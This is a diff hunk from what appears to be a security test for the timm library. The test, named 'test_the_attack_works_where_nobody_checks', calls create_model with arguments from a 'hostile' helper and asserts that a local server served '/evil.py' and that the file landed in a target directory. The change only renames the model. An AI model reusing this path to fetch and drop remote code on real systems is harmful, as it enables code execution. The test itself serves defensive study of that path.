@@ -58,7 +58,7 @@ def hostile(url, target):
 
 def test_the_attack_works_where_nobody_checks(server, tmp_path):
     url, asked = server
-    timm.create_model('bn_resnet20_cifar', num_classes=3, layers=[1, 1, 1], **hostile(url, tmp_path / 'target'))
+    timm.create_model('bn_resnet32_cifar', num_classes=3, layers=[1, 1, 1], **hostile(url, tmp_path / 'target'))
     assert asked == ['/evil.py'] and os.listdir(tmp_path / 'target') == ['evil.py']
 
 
